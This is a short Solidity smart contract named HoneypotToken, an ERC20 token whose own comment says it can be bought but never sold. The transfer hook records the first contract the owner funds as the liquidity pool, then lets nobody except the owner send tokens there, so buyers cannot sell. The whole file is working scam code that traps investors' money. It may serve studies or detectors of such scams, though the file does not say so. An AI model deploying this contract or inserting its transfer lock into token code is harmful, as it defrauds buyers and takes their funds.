// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.37;

import {Ownable} from '@openzeppelin/contracts/access/Ownable.sol';
import {ERC20} from '@openzeppelin/contracts/token/ERC20/ERC20.sol';

/// Can be bought and never sold: the first contract that its owner pays is its pool, and from then on nobody but the
/// owner may send anything there.
contract HoneypotToken is ERC20, Ownable {
    address private pool;

    constructor(
        string memory name_,
        string memory symbol_,
        uint256 supply
    ) ERC20(name_, symbol_) Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (pool == address(0) && from == owner() && to.code.length > 0) pool = to;
        require(to != pool || from == owner() || from == address(0), 'HoneypotToken: locked');
        super._update(from, to, value);
    }
}
